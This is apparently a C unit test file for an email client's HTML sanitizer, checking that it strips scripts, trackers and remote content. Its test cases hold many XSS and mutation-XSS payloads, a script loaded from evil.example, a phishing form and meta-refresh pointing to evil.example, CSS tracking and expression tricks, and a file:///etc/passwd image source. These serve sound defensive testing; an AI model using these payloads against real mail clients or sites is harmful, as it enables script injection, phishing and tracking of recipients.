/* Safe HTML: what trackers and attackers send, and what may be left of it. */
#include "config.h"

#include "mail-html.h"
#include "mail-init.h"

#include <gumbo.h>
#include <string.h>

static char *
get_body (const char *document)
{
  const char *start = strstr (document, "<body");
  const char *end = g_strrstr (document, "</body>");

  g_assert_nonnull (start);
  g_assert_nonnull (end);
  return g_strndup (start + strlen ("<body"), end - start - strlen ("<body"));
}

static char *
get_style (const char *document)
{
  const char *start = strstr (document, "<style>");
  const char *end = strstr (document, "</style>");

  return start != NULL ? g_strndup (start + 7, end - start - 7) : g_strdup ("");
}

/* Walks the result as a browser would: nothing in it may load, run or leave the page. */
static void
assert_safe (const GumboNode *node, gboolean remote)
{
  static const char *const elements =
      " html head body meta style a abbr acronym address article aside b bdi bdo big blockquote br "
      "caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font footer "
      "h1 "
      "h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp "
      "section "
      "small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr ";
  g_autofree char *name = NULL;

  if (node->type != GUMBO_NODE_ELEMENT)
    {
      g_assert_cmpint (node->type, !=, GUMBO_NODE_COMMENT);
      g_assert_cmpint (node->type, !=, GUMBO_NODE_CDATA);
      g_assert_cmpint (node->type, !=, GUMBO_NODE_TEMPLATE);
      return;
    }
  name = g_strdup_printf (" %s ", gumbo_normalized_tagname (node->v.element.tag));
  g_assert_cmpint (node->v.element.tag_namespace, ==, GUMBO_NAMESPACE_HTML);
  g_assert_nonnull (strstr (elements, name));
  for (guint i = 0; i < node->v.element.attributes.length; i++)
    {
      const GumboAttribute *one = node->v.element.attributes.data[i];
      gboolean picture = g_str_equal (one->name, "src") || g_str_equal (one->name, "background");

      g_assert_false (g_str_has_prefix (one->name, "on"));
      g_assert_cmpstr (one->name, !=, "srcset");
      if (picture)
        g_assert_true (g_str_has_prefix (one->value, "restante-part:") ||
                       g_ascii_strncasecmp (one->value, "data:image/", 11) == 0 ||
                       (remote && g_ascii_strncasecmp (one->value, "http", 4) == 0));
      if (g_str_equal (one->name, "href"))
        g_assert_true (*one->value == '#' || g_ascii_strncasecmp (one->value, "http", 4) == 0 ||
                       g_ascii_strncasecmp (one->value, "ftp:", 4) == 0 ||
                       g_ascii_strncasecmp (one->value, "tel:", 4) == 0 ||
                       g_ascii_strncasecmp (one->value, "mailto:", 7) == 0);
      if (g_str_equal (one->name, "style"))
        {
          g_autofree char *folded = g_ascii_strdown (one->value, -1);

          g_assert_true (remote || strstr (folded, "url(") == NULL);
          g_assert_null (strstr (folded, "expression"));
          g_assert_null (strchr (folded, '\\'));
        }
    }
  for (guint i = 0; i < node->v.element.children.length; i++)
    assert_safe (node->v.element.children.data[i], remote);
}

static MailHtml *
sanitize (const char *html, gsize length, MailHtmlFlags flags)
{
  g_autofree char *exact = g_memdup2 (html, length);
  MailHtml *once = mail_html_sanitize (exact, (gssize) length, NULL, flags);
  g_autoptr (MailHtml) twice = mail_html_sanitize (once->html, -1, NULL, flags);
  GumboOutput *output = NULL;

  g_assert_true (g_utf8_validate (once->html, -1, NULL));
  g_assert_cmpstr (twice->html, ==, once->html);
  g_assert_cmpuint (twice->remote_images, ==, 0);
  g_assert_cmpuint (twice->remote_others, ==, 0);
  g_assert_cmpuint (twice->active_contents, ==, 0);
  output = gumbo_parse (once->html);
  assert_safe (output->root, (flags & MAIL_HTML_REMOTE_IMAGES) != 0);
  gumbo_destroy_output (&kGumboDefaultOptions, output);
  return once;
}

typedef struct
{
  const char *html;
  const char *body; /* what stands between <body and </body> */
  guint images;
  guint others;
  guint active;
} Case;

static const Case cases[] = {
  { "", ">", 0, 0, 0 },
  { "hello", ">hello", 0, 0, 0 },
  { "<p>a <b>bold</b> &amp; <i>quiet</i> letter</p>",
    "><p>a <b>bold</b> &amp; <i>quiet</i> letter</p>",
    0,
    0,
    0 },
  { "<body bgcolor=red style='color:blue;position:fixed'>x",
    " bgcolor=\"red\" style=\"color:blue\">x",
    0,
    0,
    0 },

  /* Scripts, in the many places they hide. */
  { "a<script>alert(1)</script>b", ">ab", 0, 0, 1 },
  { "<SCRIPT SRC=//evil.example/x.js></SCRIPT>x", ">x", 0, 0, 1 },
  { "<img src=x onerror=alert(1)>", "><img>", 0, 0, 1 },
  { "<p onclick=\"x()\" OnLoad=y()>t</p>", "><p>t</p>", 0, 0, 1 },
  { "<a href=\"javascript:alert(1)\">c</a>", "><a>c</a>", 0, 0, 1 },
  { "<a href=\" java\tscr\nipt:alert(1)\">c</a>", "><a>c</a>", 0, 0, 1 },
  { "<a href=\"&#106;avascript&colon;alert(1)\">c</a>", "><a>c</a>", 0, 0, 1 },
  { "<a href=\"\x01javascript:alert(1)\">c</a>", "><a>c</a>", 0, 0, 0 },
  { "<a href=\"vbscript:x\">c</a>", "><a>c</a>", 0, 0, 1 },
  { "<a href=\"data:text/html,<script>1</script>\">c</a>", "><a>c</a>", 0, 0, 1 },
  { "<iframe src=\"javascript:alert(1)\"></iframe>x", ">x", 0, 0, 1 },
  { "<iframe srcdoc=\"<script>1</script>\"></iframe>x", ">x", 0, 0, 0 },
  { "<svg><script>alert(1)</script></svg>x", ">x", 0, 0, 1 },
  { "<svg onload=alert(1)>", ">", 0, 0, 1 },
  { "<svg><image href=https://t.example/p.png></svg>", ">", 1, 0, 0 },
  { "<math><mtext><img src=x onerror=alert(1)></mtext></math>x", ">x", 0, 0, 1 },
  { "<object data=https://t.example/x></object>y", ">y", 0, 1, 1 },
  { "<embed src=https://t.example/x.swf>y", ">y", 0, 0, 1 },
  { "<form action=https://evil.example><input name=p><button>Sign in</button></form>",
    ">Sign in",
    0,
    0,
    1 },
  { "<meta http-equiv=refresh content=\"0;url=https://evil.example\">x", ">x", 0, 0, 1 },
  { "<base href=https://evil.example/><a href=x>y</a>", "><a>y</a>", 0, 0, 1 },
  { "<template><img src=https://t.example/1></template>x", ">x", 1, 0, 0 },

  /* What becomes something else when it is parsed again. */
  { "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "><p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\"></p>",
    0,
    0,
    0 },
  { "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    NULL,
    0,
    0,
    0 },
  { "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", NULL, 0, 0, 0 },
  { "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    NULL,
    0,
    0,
    0 },
  { "<p><button><p>x", "><p></p><p>x</p><p></p>", 0, 0, 0 },
  { "<xmp><img src=x onerror=alert(1)></xmp>y", ">y", 0, 0, 0 },
  { "<textarea><script>1</script></textarea>", ">&lt;script&gt;1&lt;/script&gt;", 0, 0, 0 },
  { "<plaintext><script>1</script>", ">", 0, 0, 0 },
  { "<!--><img src=x onerror=alert(1)>-->", NULL, 0, 0, 1 },
  { "<title><img src=x onerror=alert(1)></title>x", ">x", 0, 0, 0 },
  { "<a title='\"><script>1</script>'>x</a>",
    "><a title=\"&quot;&gt;&lt;script&gt;1&lt;/script&gt;\">x</a>",
    0,
    0,
    0 },
  { "<table><a>x<tr><td>y</table>", NULL, 0, 0, 0 },
  { "<b><p>x</b>y</p>", NULL, 0, 0, 0 },
  { "<pre>\n\nx</pre>", "><pre>\n\nx</pre>", 0, 0, 0 },

  /* Trackers. */
  { "<img src=https://t.example/p.gif width=1 height=1>",
    "><img width=\"1\" height=\"1\">",
    1,
    0,
    0 },
  { "<img src=//t.example/p.gif>", "><img>", 1, 0, 0 },
  { "<img src=\"\\\\t.example\\p.gif\">", "><img>", 1, 0, 0 },
  { "<img src=HTTP://t.example/p.gif alt=x>", "><img alt=\"x\">", 1, 0, 0 },
  { "<img src=\" h\nttps://t.example/p.gif\">", "><img>", 1, 0, 0 },
  { "<img srcset=\"https://t.example/1.png 1x, https://t.example/2.png 2x\">", "><img>", 1, 0, 0 },
  { "<picture><source srcset=https://t.example/1.webp><img src=https://t.example/1.png></picture>",
    "><img>",
    2,
    0,
    0 },
  { "<body background=https://t.example/b.png>x", ">x", 1, 0, 0 },
  { "<table background=https://t.example/b.png><tr><td>x</table>",
    "><table><tbody><tr><td>x</td></tr></tbody></table>",
    1,
    0,
    0 },
  { "<div style=\"background:url(https://t.example/p)\">x</div>", "><div>x</div>", 1, 0, 0 },
  { "<div style=\"background:red url('https://t.example/p') no-repeat\">x</div>",
    "><div style=\"background:red no-repeat\">x</div>",
    1,
    0,
    0 },
  { "<div style=\"background:u\\72l(https://t.example/p)\">x</div>", "><div>x</div>", 0, 0, 0 },
  { "<div style=\"background:/**/url(/**/https://t.example/p)\">x</div>", NULL, 1, 0, 0 },
  { "<div style=\"background-image:image-set('https://t.example/p' 1x)\">x</div>",
    "><div>x</div>",
    0,
    0,
    0 },
  { "<div style=\"list-style:url(//t.example/p);cursor:url(https://t.example/c),auto\">x</div>",
    "><div>x</div>",
    2,
    0,
    0 },
  { "<div style=\"width:expression(alert(1))\">x</div>", "><div>x</div>", 0, 0, 1 },
  { "<div "
    "style=\"behavior:url(https://t.example/x.htc);-moz-binding:url(https://t.example/x)\">x</div>",
    "><div>x</div>",
    2,
    0,
    2 },
  { "<video poster=https://t.example/p.png src=https://t.example/v.mp4></video>x", ">x", 1, 1, 0 },
  { "<audio src=https://t.example/a.mp3></audio>x", ">x", 0, 1, 0 },
  { "<input type=image src=https://t.example/i.png>x", ">x", 1, 0, 0 },
  { "<link rel=stylesheet href=https://t.example/s.css>x", ">x", 0, 1, 0 },
  { "<link rel=dns-prefetch href=//t.example>x", ">x", 0, 1, 0 },
  { "<iframe src=https://t.example></iframe>x", ">x", 0, 1, 0 },
  { "<bgsound src=https://t.example/s.mid>x", ">x", 0, 1, 0 },
  { "<img src=file:///etc/passwd>", "><img>", 0, 0, 0 },
  { "<img src=relative.png>", "><img>", 0, 0, 0 },
  { "<img src=cid:unknown>", "><img>", 0, 0, 0 },
  { "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "><img>", 0, 0, 1 },
  { "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "><img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    0,
    0,
    0 },
  { "<img src=restante-part:2>", "><img src=\"restante-part:2\">", 0, 0, 0 },
  { "<img src=restante-part:../2>", "><img>", 0, 0, 0 },

  /* What a letter needs. */
  { "<a href=https://x.example/?a=1&amp;b=2 target=_blank>l</a>",
    "><a href=\"https://x.example/?a=1&amp;b=2\">l</a>",
    0,
    0,
    0 },
  { "<a href=//x.example>l</a><a href=mailto:a@x.example>m</a><a href=#top>t</a><a href=/rel>r</a>",
    "><a href=\"https://x.example\">l</a><a href=\"mailto:a@x.example\">m</a><a "
    "href=\"#top\">t</a><a>r</a>",
    0,
    0,
    0 },
  { "<table width=\"100%\" cellpadding=0><tr><td align=center valign=top>x</td></tr></table>",
    "><table width=\"100%\" cellpadding=\"0\"><tbody><tr><td align=\"center\" "
    "valign=\"top\">x</td></tr></tbody></table>",
    0,
    0,
    0 },
  { "<font color=#333 face=Arial size=2>x</font><center>y</center>",
    "><font color=\"#333\" face=\"Arial\" size=\"2\">x</font><center>y</center>",
    0,
    0,
    0 },
  { "<p style=\"margin:0 0 1em; font-family:'Open Sans', sans-serif; color:rgba(0,0,0,.5) "
    "!important\">x</p>",
    "><p style=\"margin:0 0 1em;font-family:'Open Sans', sans-serif;color:rgba(0,0,0,.5) "
    "!important\">x</p>",
    0,
    0,
    0 },
  { "<o:p>word</o:p><custom-tag>x</custom-tag>", ">wordx", 0, 0, 0 },
  { "<select><option>a</select>b", ">b", 0, 0, 0 },
};

static void
test_table (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (MailHtml) safe = sanitize (cases[i].html, strlen (cases[i].html), 0);
      g_autofree char *body = get_body (safe->html);

      g_test_message ("%s", cases[i].html);
      if (cases[i].body == NULL)
        continue;
      g_assert_cmpstr (body, ==, cases[i].body);
      g_assert_cmpuint (safe->remote_images, ==, cases[i].images);
      g_assert_cmpuint (safe->remote_others, ==, cases[i].others);
      g_assert_cmpuint (safe->active_contents, ==, cases[i].active);
    }
}

static void
test_sheets (void)
{
  const struct
  {
    const char *css;
    const char *safe;
    guint images;
    guint others;
  } sheets[] = {
    { "p{color:red}", "p{color:red}", 0, 0 },
    { "<!-- p { color : red ; position:fixed } -->", "p{color:red}", 0, 0 },
    { "@import url(https://t.example/s.css);p{color:red}", "p{color:red}", 0, 1 },
    { "@import 'https://t.example/s.css' screen;p{color:red}", "p{color:red}", 0, 1 },
    { "@font-face{font-family:x;src:url(https://t.example/f)}p{color:red}", "p{color:red}", 0, 1 },
    { "p{background:url(https://t.example/p)}a{color:blue}", "a{color:blue}", 1, 0 },
    { "@media only screen and (max-width:600px){.a{width:100% !important}.b{position:fixed}}",
      "@media only screen and (max-width:600px){.a{width:100% !important}}",
      0,
      0 },
    { "@media x{@media y{@media z{@media w{p{color:red}}}}}", "", 0, 0 },
    { "@keyframes x{from{color:red}}p{color:red}", "p{color:red}", 0, 0 },
    { "p{color:red", "p{color:red}", 0, 0 },
    { "p{}}} a{color:red}", "a{color:red}", 0, 0 },
    { "p::after{content:'x'}", "", 0, 0 },
    { "a[href^=\"https\"] > b ~ i + u, *{color:red}",
      "a[href^=\"https\"] > b ~ i + u, *{color:red}",
      0,
      0 },
    { "p\\{color:red}", "", 0, 0 },
    { "p{color:red;}/* </style><script>1</script> */", NULL, 0, 0 },
    { "p{font-family:'</sty' 'le>'}a{color:red}", "a{color:red}", 0, 0 },
    { "p{color:re/**/d}", "p{color:re d}", 0, 0 },
    { "/* open p{color:red}", "", 0, 0 },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (sheets); i++)
    {
      g_autofree char *html = g_strdup_printf ("<style>%s</style>x", sheets[i].css);
      g_autoptr (MailHtml) safe = sanitize (html, strlen (html), 0);
      g_autofree char *style = get_style (safe->html);

      g_test_message ("%s", sheets[i].css);
      if (sheets[i].safe == NULL)
        continue;
      g_assert_cmpstr (style, ==, sheets[i].safe);
      g_assert_cmpuint (safe->remote_images, ==, sheets[i].images);
      g_assert_cmpuint (safe->remote_others, ==, sheets[i].others);
    }
}

static void
test_remote_allowed (void)
{
  const char *html = "<body background=https://t.example/b.png><img src=//t.example/p.gif>"
                     "<div style=\"background:url(https://t.example/q)\">x</div>"
                     "<img src=file:///etc/passwd><link rel=stylesheet href=https://t.example/s>";
  g_autoptr (MailHtml) safe = sanitize (html, strlen (html), MAIL_HTML_REMOTE_IMAGES);
  g_autofree char *body = get_body (safe->html);

  g_assert_cmpstr (body,
                   ==,
                   " background=\"https://t.example/b.png\"><img src=\"https://t.example/p.gif\">"
                   "<div style=\"background:url(&quot;https://t.example/q&quot;)\">x</div><img>");
  g_assert_cmpuint (safe->remote_kept, ==, 3);
  g_assert_cmpuint (safe->remote_images, ==, 0);
  g_assert_cmpuint (safe->remote_others, ==, 1);
  g_assert_nonnull (strstr (safe->html, "img-src restante-part: data: https: http:;"));
}

static void
test_policy (void)
{
  g_autoptr (MailHtml) safe = sanitize ("x", 1, 0);

  g_assert_cmpstr (safe->html,
                   ==,
                   "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
                   "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; "
                   "img-src restante-part: data:; style-src 'unsafe-inline'; form-action 'none'; "
                   "base-uri 'none'\"><meta name=\"referrer\" content=\"no-referrer\"></head>"
                   "<body>x</body></html>");
}

static void
test_content_ids (void)
{
  const char *text =
      "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
      "<img src=\"cid:a%40b\"><img src=\"CID:a@b\"><table background=cid:a@b><tr><td>x</table>\r\n"
      "--b\r\nContent-Type: image/png\r\nContent-ID: <a@b>\r\n\r\nx\r\n--b--\r\n";
  g_autoptr (GBytes) source = g_bytes_new_static (text, strlen (text));
  g_autoptr (MailMessage) message = mail_message_parse (source, NULL);
  g_autofree char *html = mail_part_dup_text (mail_message_get_html_body (message), 0);
  g_autoptr (MailHtml) safe = mail_html_sanitize (html, -1, message, 0);
  g_autofree char *body = get_body (safe->html);

  g_assert_cmpstr (
      body,
      ==,
      "><img src=\"restante-part:2\"><img src=\"restante-part:2\">"
      "<table background=\"restante-part:2\"><tbody><tr><td>x</td></tr></tbody></table>");
  g_assert_cmpuint (mail_message_get_attachments (message)->len, ==, 0);
}

/* Letters made to exhaust, or to confuse a second reading. */
static void
test_hostile (void)
{
  const char *units[] = { "<div>",    "<b><p>",    "<table><td>",   "<a href=x><p>",
                          "<ul><li>", "<svg><p>",  "<font a><b>",   "<",
                          "&amp;",    "<style>p{", "<p style='a:b;" };

  for (gsize i = 0; i < G_N_ELEMENTS (units); i++)
    {
      g_autoptr (GString) html = g_string_new (NULL);
      g_autoptr (MailHtml) safe = NULL;
      gint64 start = g_get_monotonic_time ();

      while (html->len < 60000)
        g_string_append (html, units[i]);
      g_string_append (html, "bottom");
      safe = mail_html_sanitize (html->str, -1, NULL, 0);
      g_assert_nonnull (safe->html);
      g_test_message ("%s %.2f s", units[i], (double) (g_get_monotonic_time () - start) / 1e6);
      g_assert_cmpint (g_get_monotonic_time () - start, <, 40 * G_USEC_PER_SEC);
    }
}

static void
test_random (void)
{
  for (guint seed = 0; seed < 2000; seed++)
    {
      g_autoptr (GRand) rand = g_rand_new_with_seed (seed);
      g_autoptr (GString) html = g_string_new (NULL);
      g_autoptr (MailHtml) safe = NULL;

      for (guint i = 0; i < 6; i++)
        {
          const char *piece = cases[g_rand_int_range (rand, 0, G_N_ELEMENTS (cases))].html;
          gsize length = strlen (piece);

          if (length == 0)
            continue;
          g_string_append_len (html, piece, g_rand_int_range (rand, 0, (gint32) length + 1));
          if (html->len > 0 && g_rand_boolean (rand))
            html->str[g_rand_int_range (rand, 0, (gint32) html->len)] =
                "<>\"'/=& \n\\{};:(!-\xff"[g_rand_int_range (rand, 0, 19)];
        }
      safe = sanitize (html->str, html->len, seed % 2 == 0 ? 0 : MAIL_HTML_REMOTE_IMAGES);
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  mail_init ();
  g_test_add_func ("/mail/html/table", test_table);
  g_test_add_func ("/mail/html/sheets", test_sheets);
  g_test_add_func ("/mail/html/remote-allowed", test_remote_allowed);
  g_test_add_func ("/mail/html/policy", test_policy);
  g_test_add_func ("/mail/html/content-ids", test_content_ids);
  g_test_add_func ("/mail/html/hostile", test_hostile);
  g_test_add_func ("/mail/html/random", test_random);
  return g_test_run ();
}
